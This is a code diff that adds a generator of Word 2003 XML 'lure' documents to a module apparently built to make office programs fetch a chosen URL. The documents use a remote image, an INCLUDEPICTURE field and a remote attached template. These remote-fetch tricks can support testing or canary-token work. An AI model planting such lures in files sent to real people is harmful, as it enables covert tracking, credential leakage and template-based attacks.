@@ -196,6 +196,18 @@ def _xml_tables(url: str) -> dict[str, bytes]:
     return {f"{name}.xml": text.encode() for name, text in parts.items()}
 
 
+def _xml_documents(url: str) -> dict[str, bytes]:
+    """Documents as one XML file."""
+    space, shapes = "http://schemas.microsoft.com/office/word/2003/wordml", "urn:schemas-microsoft-com:vml"
+    picture = f'<w:r><w:pict><v:shape><v:imagedata src="{url}/p.png"/></v:shape></w:pict></w:r>'
+    field = f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}/f.png&quot; "><w:r><w:t>a</w:t></w:r></w:fldSimple>'
+    text = (
+        f'<?xml version="1.0"?><w:wordDocument xmlns:w="{space}" xmlns:v="{shapes}"><w:docPr><w:attachedTemplate '
+        f'w:val="{url}/t.dot"/></w:docPr><w:body><w:p>{picture}{field}</w:p></w:body></w:wordDocument>'
+    )
+    return {"a picture, a field and a template.xml": text.encode()}
+
+
 def lures(url: str) -> dict[str, bytes]:
     """Files by name; each would make an office program fetch `url`."""
-    return _documents(url) | _pages(url) | _rich_texts(url) | _xml_tables(url)
+    return _documents(url) | _pages(url) | _rich_texts(url) | _xml_tables(url) | _xml_documents(url)
